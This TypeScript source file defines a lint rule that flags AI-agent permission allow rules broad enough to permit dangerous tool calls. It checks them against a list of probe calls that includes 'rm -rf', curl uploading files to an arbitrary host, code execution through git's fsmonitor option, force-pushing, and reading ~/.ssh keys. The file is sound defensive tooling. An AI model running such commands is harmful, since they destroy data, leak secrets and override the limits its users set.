import type { Severity } from "../../base/diagnostic.ts";
import type { ToolCall } from "../../base/tool-call.ts";
import { effectsOf } from "../../commands/effects-of.ts";
import type { Entry } from "../entry.ts";
import { finding, type LintRule } from "../lint-rule.ts";
import {
  anyWord,
  decideWith,
  filled,
  headOf,
  nameOf,
  shellCall,
  shellPatternOf,
  wordsOf,
} from "../samples.ts";
import type { Subject } from "../subject.ts";

/** What no rule should allow by the way: a call, made of words that no rule names, and what it stands for. */
type Danger = {
  readonly call: ToolCall;
  readonly allows: string;
  readonly severity?: Severity;
  readonly help?: string;
};

const anyPath = `/${anyWord}/x`;

/** The worst first: of each rule only the first is told. */
const dangers = (home: string): readonly Danger[] => [
  { call: shellCall(anyWord), allows: "every program" },
  { call: { tool: "PowerShell", input: { command: anyWord } }, allows: "every program" },
  {
    call: shellCall(`git -c core.fsmonitor=${anyWord} status`),
    allows: "every program, through options of `git`",
  },
  { call: shellCall(`rm -rf ${anyWord}`), allows: "to remove every file of the project" },
  {
    call: shellCall(`curl --data-binary @${anyWord} https://${anyWord}.example`),
    allows: "to send every file to every host",
  },
  { call: shellCall(`git push --force ${anyWord}`), allows: "to overwrite every branch of a remote" },
  { call: { tool: "Edit", input: { file_path: anyPath } }, allows: "to change every file of the system" },
  {
    call: { tool: "Edit", input: { file_path: `${home}/${anyWord}/x` } },
    allows: "to change every file of the home directory",
  },
  { call: { tool: "Read", input: { file_path: anyPath } }, allows: "to read every file of the system" },
  {
    call: { tool: "Read", input: { file_path: `${home}/.ssh/${anyWord}` } },
    allows: "to read keys in the home directory",
  },
  {
    call: { tool: "WebFetch", input: { url: `https://${anyWord}.example/` } },
    allows: "to fetch from every host",
  },
];

/** An allow rule that holds one of a set of things that are known to be dangerous. */
export const tooBroad: LintRule = {
  code: "too-broad",
  find: (subject) => {
    const home = subject.session.world.home ?? "/home/x";
    const usual = dangers(home);
    return subject.rules("allow").flatMap((entry) => {
      const danger = dangerOf(entry, subject, usual);
      if (danger === undefined) return [];
      const { allows, severity = "warning", help = "name what is meant" } = danger;
      return [finding("too-broad", severity, entry, `the rule allows ${allows}`, { help })];
    });
  },
};

function dangerOf(entry: Entry, { session }: Subject, usual: readonly Danger[]): Danger | undefined {
  const near = [...usual.filter(({ call }) => isNear(entry, call)), ...reading(entry)];
  if (near.length === 0) return undefined;
  const decision = decideWith(entry, session);
  return near.find(({ call }) => {
    const { effect, reasons } = decision(call);
    return effect === "allow" && reasons.some(({ rule }) => rule !== undefined);
  });
}

/** A command that only reads needs no rule in the working directories. SEMANTICS RO-1, READ-12. */
function reading({ rule }: Entry): readonly Danger[] {
  const name = rule && nameOf(filled(shellPatternOf(rule) ?? "", anyWord));
  if (name === undefined) return [];
  const { readOnly, reads } = effectsOf(wordsOf(`${name} ${anyPath}`));
  if (readOnly !== true || reads.length === 0) return [];
  const help = `leave it out: in the working directories \`${name}\` needs no rule`;
  return [
    {
      call: shellCall(`${name} ${anyPath}`),
      allows: "to read every file of the system",
      severity: "info",
      help,
    },
  ];
}

/** A rule for another tool or another program allows nothing of it, and the engine need not be asked. */
function isNear({ rule }: Entry, { tool, input }: ToolCall): boolean {
  if (rule?.tool.type !== "name") return true;
  const { name } = rule.tool;
  // what may be edited may be read, too. SEMANTICS PATH-3
  if (name !== tool) return name === "Edit" && tool === "Read";
  return tool !== "Bash" || String((input as { command: string }).command).startsWith(headOf(rule));
}
